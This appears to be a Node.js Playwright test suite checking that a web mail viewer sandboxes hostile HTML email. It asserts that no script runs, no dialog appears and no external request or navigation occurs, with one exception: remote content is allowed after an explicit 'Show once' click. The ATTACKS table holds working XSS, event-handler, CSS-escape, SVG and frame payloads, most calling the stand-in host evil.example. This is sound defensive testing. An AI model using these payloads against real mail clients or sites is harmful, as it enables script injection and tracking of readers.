// Mail that wants to run something or to fetch something: nothing runs, nothing is fetched.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { closeBrowser, eventually, mailboxUrl, newAddress, newPage, row, startSite, untilLive } from './support.mjs';

const EVIL = 'http://evil.example';

/** @type {Record<string, string>} */
const ATTACKS = {
  script: `<script>top.pwned = 1; fetch('${EVIL}/script')</script><script src="${EVIL}/script.js"></script>`,
  'event handlers': `<img src=x onerror="alert(1)"><body onload="alert(2)"><div onmouseover="alert(3)" style="position:fixed;inset:0">hover</div><details open ontoggle="alert(4)">`,
  'javascript links': `<a href="javascript:alert(1)" id="go">go</a><iframe src="javascript:alert(2)"></iframe><object data="javascript:alert(3)"></object>`,
  forms: `<form action="${EVIL}/form" method="post" id="f"><input name="password" autofocus onfocus="alert(1)"><button id="send">Send</button></form><button form="f" formaction="${EVIL}/button">x</button>`,
  'remote images': `<img src="${EVIL}/pixel.gif"><img srcset="${EVIL}/set.gif 2x"><picture><source srcset="${EVIL}/source.gif"><img></picture><video poster="${EVIL}/poster.gif" src="${EVIL}/video.mp4" autoplay></video><audio src="${EVIL}/audio.mp3" autoplay></audio><input type="image" src="${EVIL}/input.gif"><table background="${EVIL}/table.gif"><tr><td>t</td></tr></table>`,
  'style fetches': `<style>@import "${EVIL}/import.css"; body{background:url(${EVIL}/bg.gif)} @font-face{font-family:x;src:url(${EVIL}/font.woff)} p{font-family:x}</style><link rel="stylesheet" href="${EVIL}/link.css"><p style="background-image:url('${EVIL}/inline.gif')">x</p>`,
  'css escapes': `<style>body{background:\\75\\72\\6c(${EVIL}/escaped.gif)} </style><style>@im\\70ort '${EVIL}/escaped.css';</style><p style="background:u\\72l(&quot;${EVIL}/escaped-inline.gif&quot;)">x</p><style></style><img src=x onerror=alert(1)>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  base: `<base href="${EVIL}/" target="_top"><img src="relative.gif"><a href="page" id="go">go</a>`,
  svg: `<svg onload="alert(1)"><script>alert(2)</script><image href="${EVIL}/image.svg"/><use href="${EVIL}/use.svg#x"/><foreignObject><iframe src="${EVIL}/foreign"></iframe></foreignObject><animate onbegin="alert(3)" attributeName="x" dur="1s"/></svg><math><mtext><script>alert(4)</script></mtext></math>`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.parent.pwned=1;alert(1)</script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><frameset><frame src="${EVIL}/frameset"></frameset>`,
  prefetch: `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="preconnect" href="${EVIL}"><link rel="dns-prefetch" href="${EVIL}"><link rel="icon" href="${EVIL}/icon.ico"><a href="${EVIL}/a" ping="${EVIL}/ping">p</a>`,
};

describe('hostile mail', () => {
  /** @type {import('./support.mjs').Site} */
  let site;
  before(async () => {
    site = await startSite();
  });
  after(async () => {
    await closeBrowser();
    await site.end();
  });

  /** @param {import('playwright-core').BrowserContext} context @param {import('playwright-core').Page} page */
  function record(context, page) {
    /** @type {string[]} */
    const happened = [];
    const home = new URL(site.url).origin;
    context.on('request', (request) => {
      // What the policy stops is reported as a request that failed: it never left the browser.
      void request.response().then((response) => {
        if (response && new URL(request.url()).origin !== home && !request.url().startsWith('data:')) happened.push(`request ${request.url()}`);
      }, () => {});
    });
    void context.route((url) => url.origin !== home, (route) => {
      happened.push(`request ${route.request().url()}`);
      return route.fulfill({ status: 200, body: '' });
    });
    page.on('dialog', (dialog) => {
      happened.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('download', (download) => happened.push(`download ${download.url()}`));
    page.on('framenavigated', (frame) => {
      // A frame inside the message ends on the browser's own error page, which is what blocked looks like.
      const isHarmless = /^(about:(blank|srcdoc)$|chrome-error:)/.test(frame.url()) && frame !== page.mainFrame();
      if (!isHarmless && !frame.url().startsWith(site.url)) happened.push(`navigation ${frame.url()}`);
    });
    return happened;
  }

  test('the recorder sees requests and dialogs', async () => {
    const { page, context } = await newPage();
    const happened = record(context, page);
    await page.goto(site.url);
    await context.newPage().then((other) => other.goto(`${EVIL}/seen`));
    await page.evaluate(() => alert('seen')).catch(() => {});
    assert.ok(happened.includes(`request ${EVIL}/seen`), String(happened));
    assert.ok(happened.includes('dialog seen'), String(happened));
  });

  for (const [name, attack] of Object.entries(ATTACKS)) {
    test(name, async () => {
      const to = newAddress();
      await site.deliver({ to, subject: `Attack by ${name}`, html: `<p>before</p>${attack}<p>after</p>` });
      const { page, context, errors } = await newPage();
      const happened = record(context, page);
      await page.goto(mailboxUrl(site.url, to));
      await untilLive(page);
      await row(page, 'Attack by').locator('a').click();
      const frame = page.frameLocator('.stage iframe');
      await frame.locator('body').waitFor({ state: 'attached' });
      await page.locator('.stage').click({ position: { x: 200, y: 60 } });
      if (await frame.locator('#send').count()) await frame.locator('#send').click({ force: true, timeout: 1_000 }).catch(() => {});
      for (const tab of ['Text', 'Headers', 'Source', 'Parts', 'HTML']) {
        const button = page.getByRole('tab', { name: tab });
        if (await button.count()) await button.click();
      }
      await page.waitForTimeout(400);
      assert.deepEqual(happened, []);
      assert.deepEqual(errors, []);
      assert.equal(await page.evaluate(() => 'pwned' in globalThis), false);
      assert.ok(page.url().startsWith(site.url), page.url());
    });
  }

  test('subject, sender, file names and text are text', async () => {
    const to = newAddress();
    const evil = '<img src=x onerror=alert(1)>';
    await site.deliver({ to, from: `"${evil}" <a@example.org>`, subject: `${evil} subject`, text: `${evil} javascript:alert(1) https://example.org/"onmouseover="alert(2)`, attachments: [{ name: 'x.svg', type: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>` }] });
    const { page, context } = await newPage();
    const happened = record(context, page);
    await page.goto(mailboxUrl(site.url, to));
    await row(page, 'subject').locator('a').click();
    await page.locator('pre.text').waitFor();
    assert.equal(await page.locator('main img').count(), 0);
    assert.deepEqual(await page.locator('pre.text a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), ['https://example.org/']);
    await page.getByRole('tab', { name: 'Parts' }).click();
    await page.getByText('x.svg').first().waitFor();
    assert.equal(await page.getByRole('button', { name: 'x.svg', exact: false }).count(), 0, 'an svg is for saving only');
    assert.deepEqual(happened, []);
  });

  test('remote content comes when asked for, and only then', async () => {
    const to = newAddress();
    await site.deliver({ to, subject: 'Newsletter', html: `<p>News</p><img src="${EVIL}/picture.gif">` });
    const { page, context } = await newPage();
    const happened = record(context, page);
    await page.goto(mailboxUrl(site.url, to));
    await row(page, 'Newsletter').locator('a').click();
    await page.frameLocator('.stage iframe').getByText('News').waitFor();
    await page.waitForTimeout(200);
    assert.equal(happened.length, 0, String(happened));
    await page.getByRole('button', { name: 'Show once' }).click();
    await page.waitForFunction(() => document.querySelector('.stage iframe')?.getAttribute('src')?.includes('remote=1'));
    await eventually(async () => assert.ok(happened.includes(`request ${EVIL}/picture.gif`), String(happened)));
  });
});
